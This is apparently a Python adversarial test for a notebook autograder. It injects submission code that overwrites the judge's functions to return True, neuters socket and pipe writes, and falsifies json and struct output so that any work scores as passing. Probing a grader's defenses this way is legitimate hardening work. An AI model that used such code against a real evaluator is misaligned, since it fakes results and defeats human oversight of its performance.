"""Everything that talks to the judge is patched: its modules, sockets, pipes, struct, json.

Success: the attack earns points, or the class stops.
"""

ALONE = True


def attack(submission):
    submission.first("""
        import gc, io, json, os, socket, struct, sys, types

        def yes(*arguments, **options):
            return True

        for name, module in list(sys.modules.items()):
            if "nbjudge" in name or "judge" in name or "nbgrader" in name:
                print(name)
                for key, value in list(vars(module).items()):
                    if isinstance(value, types.FunctionType):
                        setattr(module, key, yes)
        for one in gc.get_objects():
            if isinstance(one, (socket.socket, io.BufferedWriter)):
                try:
                    one.sendall = one.send = one.write = yes
                except AttributeError:
                    pass
        json.dumps = lambda *a, **k: "true"
        struct.unpack = lambda *a: (0,)
        os.write = lambda fd, data: len(data)
    """)
